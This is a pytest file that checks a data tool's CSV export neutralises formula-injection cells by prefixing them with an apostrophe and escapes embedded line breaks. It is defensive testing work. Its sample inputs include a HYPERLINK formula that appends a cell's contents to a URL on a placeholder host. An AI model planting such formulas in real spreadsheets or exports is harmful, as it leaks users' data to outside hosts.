"""No CSV file of ours holds a cell that a spreadsheet would compute; Parquet and JSON hold the names as they are."""

import csv
import io

import pandas as pd
import pytest

from blanketflow.core.printable import FORMULA_SIGNS
from blanketflow.data.provenance import Provenance
from blanketflow.reporting.export import ExportedBlanket
from blanketflow.workflow.collect import write_table

FORMULAS = [
    '=HYPERLINK("http://host/?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\uff1d1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
]
HARMLESS = ["age", "a=b", "1q21", "'quoted", " =1", "Größe", "", 'a,"b"']
#: Each would be a row or cell of its own.
BROKEN = {"\r=1": "\\r=1", "a\n=1": "a\\n=1", "\t=1": "\\t=1", "a\u2028=1": "a\\u2028=1"}


def test_every_sign_is_tried():
    assert {formula[0] for formula in FORMULAS} == set(FORMULA_SIGNS)


@pytest.mark.parametrize("dtype", [object, "string", "category"])
def test_tables(dtype, tmp_path):
    names = [*FORMULAS, *HARMLESS, *BROKEN]
    numbers = [-1.5] * len(names)
    frame = pd.DataFrame({"feature": pd.Series(names, dtype=dtype), "score": numbers, "n": range(len(names))})
    write_table(tmp_path / "t.parquet", frame, Provenance())
    rows = list(csv.DictReader(io.StringIO((tmp_path / "t.csv").read_bytes().decode(), newline="")))
    assert [row["feature"] for row in rows] == [*(f"'{name}" for name in FORMULAS), *HARMLESS, *BROKEN.values()]
    assert {row["score"] for row in rows} == {"-1.5"}
    assert pd.read_parquet(tmp_path / "t.parquet")["feature"].tolist() == names


def test_missing_values_and_lists_stay_as_they_are(tmp_path):
    frame = pd.DataFrame({"reason": ["-x", None], "folds": [["-1"], []], "ok": [True, False]})
    write_table(tmp_path / "t.parquet", frame, Provenance())
    assert (tmp_path / "t.csv").read_text() == 'reason,folds,ok\n"\'-x","[\'-1\']",True\n"","[]",False\n'


def test_an_exported_blanket():
    rest = {"kind": "numeric", "role": "", "importance": -1.0, "frequency": None}
    features = [{"feature": name} | rest for name in FORMULAS]
    blanket = ExportedBlanket("d", "y", "classification", "s", "m", features, "0", 1)
    rows = list(csv.DictReader(io.StringIO(blanket.as_csv(), newline="")))
    assert [row["feature"] for row in rows] == [f"'{name}" for name in FORMULAS]
    assert {row["importance"] for row in rows} == {"-1.0"}
    assert blanket.names == FORMULAS
